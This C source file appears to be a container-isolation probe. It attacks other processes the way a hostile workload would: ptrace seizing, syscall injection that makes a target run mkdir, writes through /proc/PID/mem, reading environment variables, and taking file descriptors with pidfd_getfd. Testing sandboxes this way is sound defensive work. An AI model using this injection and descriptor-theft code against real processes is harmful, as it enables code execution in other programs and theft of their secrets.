// probe [--mkdir PREFIX] TARGET...
//
// Goes after other processes of the container the way a hostile workload
// would: ptrace (ATTACH, SEIZE), /proc/PID/{mem,environ,exe,fd,cwd,root},
// process_vm_readv and pidfd_getfd. With --mkdir, a successful SEIZE is used
// to make the target perform mkdir(PREFIX-PID) (x86_64): the container's seccomp
// profile denies mkdir, a process outside it would not be stopped.
//
// TARGET: a pid; comm:NAME (every other process with that comm);
// parent:TEXT (the parent of every process whose cmdline contains TEXT).
#include "attack.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>

static const char *mkdir_path;

#if defined(__x86_64__)
static int poke_bytes(int pid, unsigned long at, const char *s, size_t n) {
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long w = 0;
        memcpy(&w, s + i, n - i < sizeof w ? n - i : sizeof w);
        if (ptrace(PTRACE_POKEDATA, pid, at + i, w) < 0) return -1;
    }
    return 0;
}

// The target is seized and in a ptrace stop: run mkdir(path, 0755) in it,
// then put everything back. Returns the syscall's result.
static long inject_mkdir(int pid, const char *path) {
    struct user_regs_struct saved, r;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) return -errno;
    // A target stopped in a syscall sits right after a `syscall`
    // instruction; else one is written at its pc (and restored).
    unsigned long ip = saved.rip - 2, patched = 0;
    long orig = 0;
    errno = 0;
    long w = ptrace(PTRACE_PEEKTEXT, pid, ip, 0);
    if (errno || (w & 0xffff) != 0x050f) {
        ip = saved.rip;
        orig = ptrace(PTRACE_PEEKTEXT, pid, ip, 0);
        if (ptrace(PTRACE_POKETEXT, pid, ip, (orig & ~0xffffL) | 0x050f) < 0) return -errno;
        patched = 1;
    }
    unsigned long sp = (saved.rsp - 8192) & ~15UL;
    long res = -EFAULT;
    if (poke_bytes(pid, sp, path, strlen(path) + 1) == 0) {
        r = saved;
        r.rip = ip;
        r.rax = SYS_mkdir;
        r.orig_rax = -1; // no syscall restart on the way out of this stop
        r.rdi = sp;
        r.rsi = 0755;
        int st;
        if (ptrace(PTRACE_SETREGS, pid, 0, &r) == 0 &&
            ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 &&
            waitpid(pid, &st, __WALL) == pid &&
            ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
            res = (long)r.rax;
    }
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    if (patched) ptrace(PTRACE_POKETEXT, pid, ip, orig);
    return res;
}
#endif

static void try_ptrace(int pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ESCAPE("ptrace-seize", pid, "seized");
        int st;
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid) {
#if defined(__x86_64__)
            if (mkdir_path) {
                char path[256];
                snprintf(path, sizeof path, "%s-%d", mkdir_path, pid);
                long r = inject_mkdir(pid, path);
                if (r == 0)
                    ESCAPE("inject-mkdir", pid, "%s created by the target", path);
                else
                    say("note inject-mkdir %d returned %ld", pid, r);
            }
#endif
        }
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else {
        HELD("ptrace-seize", pid);
    }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
        ESCAPE("ptrace-attach", pid, "attached");
        int st;
        waitpid(pid, &st, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else {
        HELD("ptrace-attach", pid);
    }
}

// pc of the target from /proc/PID/syscall ("nr args... sp pc"), 0 if unknown.
static unsigned long pc_of(int pid) {
    char p[64], b[512];
    snprintf(p, sizeof p, "/proc/%d/syscall", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0) return 0;
    b[n] = 0;
    char *last = strrchr(b, ' ');
    return last ? strtoul(last + 1, NULL, 0) : 0;
}

static void try_mem(int pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/mem", pid);
    int fd = open(p, O_RDWR | O_CLOEXEC);
    VERDICT(fd, "mem-open-rw", pid, "%s", p);
    if (fd >= 0) {
        // Prove the write: put back the bytes at its pc.
        unsigned long pc = pc_of(pid);
        char buf[8];
        if (pc && pread(fd, buf, sizeof buf, pc) == sizeof buf) {
            ssize_t w = pwrite(fd, buf, sizeof buf, pc);
            VERDICT(w, "mem-write", pid, "wrote %zd bytes at %#lx", w, pc);
        }
        close(fd);
    }
    fd = open(p, O_RDONLY | O_CLOEXEC);
    VERDICT(fd, "mem-open-ro", pid, "%s", p);
    if (fd >= 0) close(fd);
}

static void try_environ(int pid) {
    char p[64], b[4096];
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        HELD("environ", pid);
        return;
    }
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n < 0) {
        HELD("environ", pid);
        return;
    }
    for (ssize_t i = 0; i < n; i++)
        if (b[i] == 0) b[i] = ' ';
    b[n] = 0;
    ESCAPE("environ", pid, "%zd bytes: %.200s", n, b);
}

static void try_exe(int pid) {
    char p[64], l[4096];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    ssize_t n = readlink(p, l, sizeof l - 1);
    if (n >= 0) l[n] = 0;
    VERDICT(n, "exe-readlink", pid, "-> %s", l);
    int fd = open(p, O_PATH | O_CLOEXEC);
    VERDICT(fd, "exe-open-path", pid, "%s", p);
    if (fd < 0) return;
    struct stat st;
    if (fstat(fd, &st) == 0) say("note exe of %d: dev %lx ino %lu size %lld", pid,
                                 (unsigned long)st.st_dev, (unsigned long)st.st_ino, (long long)st.st_size);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    // Reopen the handle for writing (no data written: a copy of a running
    // image is ETXTBSY anyway; overwrite.c and race.c do write).
    int w = open(self, O_WRONLY | O_CLOEXEC);
    VERDICT(w, "exe-reopen-write", pid, "%s", p);
    if (w >= 0) close(w);
    close(fd);
}

static void try_links(int pid) {
    const char *what[] = {"cwd", "root"};
    for (int i = 0; i < 2; i++) {
        char p[64], l[4096];
        snprintf(p, sizeof p, "/proc/%d/%s", pid, what[i]);
        ssize_t n = readlink(p, l, sizeof l - 1);
        if (n >= 0) l[n] = 0;
        VERDICT(n, what[i], pid, "-> %s", l);
        int fd = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
            ESCAPE(what[i], pid, "opened %s", p);
            close(fd);
        }
    }
    // Its fd numbers may be listed (the directory belongs to the container's
    // root when the process's mm does); where they point, and the files
    // themselves, must stay out of reach.
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (!d) {
        HELD("fd-dir", pid);
        return;
    }
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.') continue;
        char fp[512], l[4096];
        snprintf(fp, sizeof fp, "%s/%s", p, de->d_name);
        ssize_t n = readlink(fp, l, sizeof l - 1);
        l[n < 0 ? 0 : n] = 0;
        VERDICT(n, "fd-readlink", pid, "fd %s -> %s", de->d_name, l);
        int fd = open(fp, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        VERDICT(fd, "fd-open", pid, "fd %s", de->d_name);
        if (fd >= 0) close(fd);
    }
    closedir(d);
}

static void try_vm_readv(int pid) {
    char buf[16];
    struct iovec local = {buf, sizeof buf};
    // Any address: the kernel checks access to the target first (EPERM),
    // only then the address (EFAULT means access was granted).
    struct iovec remote = {(void *)0x400000, sizeof buf};
    ssize_t r = process_vm_readv(pid, &local, 1, &remote, 1, 0);
    if (r >= 0 || errno == EFAULT)
        ESCAPE("process_vm_readv", pid, "access granted (%zd, %s)", r, strerrorname_np(errno));
    else
        HELD("process_vm_readv", pid);
}

static void try_getfd(int pid) {
    int pfd = syscall(SYS_pidfd_open, pid, 0);
    if (pfd < 0) {
        HELD("pidfd_open", pid);
        return;
    }
    int held = 0;
    for (int n = 0; n < 64; n++) {
        int fd = syscall(SYS_pidfd_getfd, pfd, n, 0);
        if (fd >= 0) {
            char p[64], l[4096];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t k = readlink(p, l, sizeof l - 1);
            l[k < 0 ? 0 : k] = 0;
            ESCAPE("pidfd_getfd", pid, "its fd %d -> %s", n, l);
            close(fd);
        } else if (errno != EBADF) {
            held = errno;
        }
    }
    if (held) {
        errno = held;
        HELD("pidfd_getfd", pid);
    }
    close(pfd);
}

static int targets[256], ntargets;

static void add_target(int pid) {
    if (pid <= 0 || pid == getpid()) return;
    for (int i = 0; i < ntargets; i++)
        if (targets[i] == pid) return;
    if (ntargets < 256) targets[ntargets++] = pid;
}

static void resolve(const char *spec) {
    int pids[4096];
    int n = list_pids(pids, 4096);
    for (int i = 0; i < n; i++) {
        char b[4096];
        if (!strncmp(spec, "comm:", 5)) {
            comm_of(pids[i], b, sizeof b);
            if (!strcmp(b, spec + 5)) add_target(pids[i]);
        } else if (!strncmp(spec, "parent:", 7)) {
            cmdline_of(pids[i], b, sizeof b);
            if (pids[i] != getpid() && strstr(b, spec + 7)) add_target(ppid_of(pids[i]));
        }
    }
    if (isdigit((unsigned char)spec[0])) add_target(atoi(spec));
}

int main(int argc, char **argv) {
    int i = 1;
    if (i + 1 < argc && !strcmp(argv[i], "--mkdir")) {
        mkdir_path = argv[i + 1];
        i += 2;
    }
    for (; i < argc; i++) resolve(argv[i]);
    for (int t = 0; t < ntargets; t++) {
        int pid = targets[t];
        char comm[64];
        comm_of(pid, comm, sizeof comm);
        say("target %d %s", pid, comm);
        try_ptrace(pid);
        try_mem(pid);
        try_environ(pid);
        try_exe(pid);
        try_links(pid);
        try_vm_readv(pid);
        try_getfd(pid);
    }
    say("done");
    return 0;
}
